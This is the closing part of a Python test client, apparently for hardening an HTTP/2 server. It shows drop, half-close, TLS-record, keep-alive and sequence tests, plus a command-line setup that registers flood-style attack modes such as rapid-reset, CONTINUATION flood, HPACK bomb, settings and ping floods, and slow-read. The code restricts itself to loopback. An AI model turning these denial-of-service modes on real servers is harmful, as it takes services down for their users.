    c.report(1, first=stream_result(c, sid), first_sent=sent,
             closed_after_ms=int((time.monotonic() - at) * 1000) if c.closed else -1)


def cmd_drop(args):
    """A client that vanishes while its request is at the backend: GET --path, wait (at
    most --wait seconds) until the file --log holds --text (the backend's note that the
    request came), then reset the TCP connection (SO_LINGER 0: no close_notify, no FIN).
    With --after-head, the reset waits (as long) for the response's HEADERS too: a client
    gone once its answer started; with --after-interim, for a 1xx's HEADERS (a client gone
    after an interim answer, before the final one).  Prints "dropped" (or "not-seen" when
    the text, or the HEADERS, never came)."""
    c = connect(args)
    sid = c.get(args.path)
    end = time.monotonic() + args.wait
    seen = False
    while not seen and time.monotonic() < end:
        with open(args.log, "rb") as f:
            seen = args.text.encode() in f.read()
        if not seen:
            time.sleep(0.02)
    if seen and (args.after_head or args.after_interim):
        got = c.responses if args.after_head else c.interim
        c.pump(max(end - time.monotonic(), 0.01), lambda: sid in got or c.closed)
        seen = sid in got
    raw = socket.socket(fileno=os.dup(c.sock.fileno()))
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    raw.close()
    print("dropped" if seen else "not-seen")


def cmd_half_close(args):
    """The client's FIN: GET --path, then close_notify and the TCP FIN (TLS 1.3: the
    client's direction only), and read on: the answer to a stream in flight must still
    come.  Prints tls=, first= (status, rst:CODE or none), first_ended and body_bytes."""
    c = connect(args, auto_window=False, bio=True)
    c.pump(2, lambda: c.settings_acks > 0 or c.closed)
    sid = c.get(args.path)
    c.sock.close_write()
    c.pump(args.wait, lambda: c.done(sid) or c.closed)
    c.report(1, tls=c.sock.version(), first=stream_result(c, sid),
             first_ended=int(sid in c.ended), body_bytes=c.data.get(sid, 0))


def cmd_records(args):
    """Many TLS records in one TCP write: --count requests for --path, each HEADERS
    frame its own TLS record, all the records in one write (the server's one read(2)
    takes them all, and OpenSSL then holds the records not yet read).  Every one must be
    answered without a byte more from the client: no WINDOW_UPDATE (the answers are
    small).  Prints responses=, status=, ended= and unanswered=."""
    c = connect(args, auto_window=False, bio=True)
    c.pump(2, lambda: c.settings_acks > 0 or c.closed)
    pieces = []
    for _ in range(args.count):
        sid = c.new_stream()
        pieces.append(c.headers_frame(sid, c.request_headers("GET", args.path)).serialize())
    c.sock.send_records(pieces)
    sids = range(1, c.next_id, 2)
    c.pump(args.wait, lambda: c.closed or all(c.done(s) for s in sids))
    c.report(args.count, tls=c.sock.version(), ended=sum(1 for s in sids if s in c.ended),
             unanswered=sum(1 for s in sids if not c.done(s)))


def h1_response(sock, end):
    """One HTTP/1.1 response with a Content-Length (or none: no body) from sock, before
    the monotonic time end.  Returns (status, connection header, closed) with status 0
    when none came whole."""
    buf = b""
    while b"\r\n\r\n" not in buf:
        if time.monotonic() > end:
            return 0, "", False
        try:
            sock.settimeout(max(end - time.monotonic(), 0.01))
            chunk = sock.recv(1 << 16)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            chunk = b""
        if not chunk:
            return 0, "", True
        buf += chunk
    head, _, body = buf.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    fields = {}
    for line in lines[1:]:
        k, _, v = line.partition(":")
        fields[k.strip().lower()] = v.strip()
    want = int(fields.get("content-length", "0"))
    while len(body) < want and time.monotonic() < end:
        try:
            sock.settimeout(max(end - time.monotonic(), 0.01))
            chunk = sock.recv(1 << 16)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            chunk = b""
        if not chunk:
            break
        body += chunk
    return (status if len(body) >= want else 0), fields.get("connection", "-"), False


def cmd_h1_keepalive(args):
    """HTTP/1.1 across what the test does meanwhile (a reload): GET --path on a
    kept-alive TLS connection (ALPN http/1.1), print "ready", wait for the test to
    create --release, then GET --then on the same connection, and wait for the close (at
    most 5 s).  Prints first_status, first_connection, then_status, then_connection (the
    Connection field, - for none) and closed."""
    if args.host not in LOOPBACK:
        raise SystemExit("h2attack: loopback only (127.0.0.1 or ::1), not %s" % args.host)
    t0 = time.monotonic()
    ctx = tls_context(["http/1.1"])
    try:
        raw = socket.create_connection((args.host, args.port), timeout=10)
        sock = ctx.wrap_socket(raw, server_hostname=args.sni or None)
    except (OSError, ssl.SSLError) as e:
        print("h2attack: cannot connect to %s:%d: %s" % (args.host, args.port, e), file=sys.stderr)
        sys.exit(2)
    authority = args.authority or "%s:%d" % (args.sni or args.host, args.port)

    def get(path):
        sock.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, authority)).encode())
        return h1_response(sock, time.monotonic() + args.wait)
    s1, c1, closed = get(args.path)
    print("ready")
    sys.stdout.flush()
    released = wait_file(args.release, args.wait)
    s2, c2 = 0, "-"
    if not closed:
        try:
            s2, c2, closed = get(args.then)
        except (OSError, ssl.SSLError):
            closed = True
    end = time.monotonic() + 5
    while not closed and time.monotonic() < end:
        try:
            sock.settimeout(max(end - time.monotonic(), 0.01))
            closed = sock.recv(1 << 16) == b""
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError):
            closed = True
    for k, v in (("alpn", sock.selected_alpn_protocol()), ("released", int(released)),
                 ("first_status", s1), ("first_connection", c1), ("then_status", s2),
                 ("then_connection", c2), ("closed", int(closed)),
                 ("elapsed_ms", int((time.monotonic() - t0) * 1000))):
        print("%s=%s" % (k, v))


def cmd_sequence(args):
    """Requests one after another on one connection (test_depth_backend.sh): each of
    --paths (comma-separated; "PATH", "HEAD PATH" or "POST PATH", a POST with the body
    "abc" and its content-length) on a new stream once the one before ended, was reset
    or --wait passed.  Prints a line a request: "PATH status=S interim=A,B rst=CODE
    ended=0|1 bytes=N body=B headers=N:V|N:V" (S and CODE none where none came; B the
    first 64 bytes of the body, bytes outside printable ASCII as \\xNN), then the
    report."""
    c = connect(args)
    for item in args.paths.split(","):
        method, _, path = item.rpartition(" ")
        method = method or "GET"
        if c.closed:
            print("%s status=none interim= rst=none ended=0 bytes=0 body= headers=" % path)
            continue
        sid = c.new_stream()
        if method == "POST":
            c.send(c.headers_frame(sid, c.request_headers(method, path,
                                                          [("content-length", "3")]), False))
            d = DataFrame(sid)
            d.data = b"abc"
            d.flags.add("END_STREAM")
            c.send(d)
        else:
            c.send(c.headers_frame(sid, c.request_headers(method, path)))
        c.pump(args.wait, lambda: c.done(sid) or c.closed)
        body = "".join(chr(b) if 32 < b < 127 and b != 92 else "\\x%02x" % b
                       for b in bytes(c.bodies.get(sid, b""))[:64])
        hdrs = "|".join("%s:%s" % kv for kv in c.headers.get(sid, []) if kv[0] != "date")
        print("%s status=%s interim=%s rst=%s ended=%d bytes=%d body=%s headers=%s" % (
            path, c.responses.get(sid, "none"),
            ",".join(str(i) for i in c.interim.get(sid, [])),
            code_name(c.rst[sid]) if sid in c.rst else "none", int(sid in c.ended),
            c.data.get(sid, 0), body, hdrs))
        sys.stdout.flush()
    c.report(len(args.paths.split(",")))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)

    def add(name, fn, **defaults):
        s = sub.add_parser(name, help=fn.__doc__.split(".")[0])
        s.add_argument("--port", type=int, required=True)
        s.add_argument("--host", default="127.0.0.1")
        s.add_argument("--sni", default="")
        s.add_argument("--authority", default="")
        s.add_argument("--path", default=defaults.get("path", "/"))
        s.add_argument("--count", type=int, default=defaults.get("count", 1000))
        s.add_argument("--batch", type=int, default=defaults.get("batch", 100))
        s.add_argument("--seconds", type=float, default=defaults.get("seconds", 10))
        s.add_argument("--wait", type=float, default=defaults.get("wait", 10),
                       help="seconds to wait for the server's answer at the end")
        s.set_defaults(fn=fn)
        return s

    add("rapid-reset", cmd_rapid_reset, count=20000, batch=100)
    add("made-you-reset", cmd_made_you_reset, count=20000, batch=100)
    add("continuation", cmd_continuation, count=100000, batch=1000)
    s = add("hpack-bomb", cmd_hpack_bomb)
    s.add_argument("--field-size", type=int, default=4000)
    s.add_argument("--block", type=int, default=16384)
    s.add_argument("--streams", type=int, default=50)
    s = add("settings-flood", cmd_settings_flood, count=100000, batch=500)
    s.add_argument("--entries", type=int, default=1)
    add("ping-flood", cmd_ping_flood, count=100000, batch=500)
    s = add("zero-window", cmd_zero_window, wait=20)
    s.add_argument("--conn", action="store_true")
    s.add_argument("--then", default="")
    add("streams", cmd_streams, count=150, wait=20)
    s = add("idle-stream", cmd_idle_stream, wait=20)
    s.add_argument("--then", default="")
    add("header-wait", cmd_header_wait, wait=20)
    s = add("reset-uploads", cmd_reset_uploads, count=20, wait=20)
    s.add_argument("--quiet", type=float, default=0.5)
    s.add_argument("--then", default="/upload")
    s.add_argument("--then-authority", default="")
    s = add("slow-read", cmd_slow_read, wait=60)
    s.add_argument("--first", type=int, default=1 << 20)
    s.add_argument("--release", required=True)
    s = add("upload", cmd_upload, wait=60)
    s.add_argument("--size", type=int, required=True)
    s.add_argument("--quiet", type=float, default=1.0)
    s.add_argument("--release", default="")
    s = add("trailers", cmd_trailers, path="/echo")
    s.add_argument("--size", type=int, default=1000)
    s.add_argument("--content-length", action="store_true")
    s.add_argument("--trailer", action="append", default=[])
    s.add_argument("--header", action="append", default=[])
    s = add("hold", cmd_hold, wait=15)
    s.add_argument("--then", default="")
    s = add("drop", cmd_drop)
    s.add_argument("--log", required=True)
    s.add_argument("--text", required=True)
    s.add_argument("--after-head", action="store_true")
    s.add_argument("--after-interim", action="store_true")
    s = add("early-hold", cmd_early_hold, path="/fault/early-403", wait=30)
    s.add_argument("--size", type=int, default=60000)
    s.add_argument("--first", type=int, default=50000)
    add("half-close", cmd_half_close, path="/slow/1000")
    add("records", cmd_records, path="/status/200", count=40, wait=10)
    s = add("h1-keepalive", cmd_h1_keepalive, path="/status/200")
    s.add_argument("--then", default="/status/200")
    s.add_argument("--release", required=True)
    s = add("sequence", cmd_sequence)
    s.add_argument("--paths", required=True)
    args = p.parse_args()
    args.fn(args)


if __name__ == "__main__":
    main()
